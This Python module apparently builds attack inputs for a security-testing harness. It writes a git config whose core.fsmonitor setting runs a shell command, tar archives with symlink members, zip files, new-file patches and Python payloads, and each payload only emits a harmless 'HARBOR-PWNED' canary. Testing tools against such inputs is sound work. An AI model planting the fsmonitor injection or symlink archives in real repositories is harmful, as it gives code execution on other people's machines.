"""Builds the binary attack arguments (archives, patches) of blind34r4's attacks.
The marker is never literal: every payload computes it ($((6*7)), "%d" % (6*7))."""

import base64, io, tarfile, zipfile

GITCONFIG_FSMON = (
    "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
    '\tfsmonitor = "echo HARBOR-PWNED-$((6*7)) >&2; false"\n'
)
GLOBAL_FSMON = '[core]\n\tfsmonitor = "echo HARBOR-PWNED-$((6*7)) >&2; false"\n'
PY_MARK = 'import sys\nsys.stderr.write("HARBOR-PWNED-%d\\n" % (6 * 7))\n'


def b64(b):
    return base64.b64encode(b if isinstance(b, bytes) else b.encode()).decode()


def tar_bytes(members, gz=True):
    """members: list of (name, content-or-None, symlink-target-or-None)"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz" if gz else "w") as t:
        for name, content, link in members:
            ti = tarfile.TarInfo(name)
            if link is not None:
                ti.type = tarfile.SYMTYPE
                ti.linkname = link
                t.addfile(ti)
            else:
                data = content.encode()
                ti.size = len(data)
                ti.mode = 0o644
                t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


def zip_bytes(members):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, content in members:
            z.writestr(name, content)
    return bio.getvalue()


def new_file_patch(path, content):
    lines = content.splitlines()
    body = "".join("+" + l + "\n" for l in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
        f"+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n" + body
    )


PY_MARK_FILE = (
    'import sys\nmsg = "HARBOR-PWNED-%d" % (6 * 7)\nopen("harbor-pwned.txt", "w").write(msg)\n'
    'sys.stderr.write(msg + "\\n")\n'
)
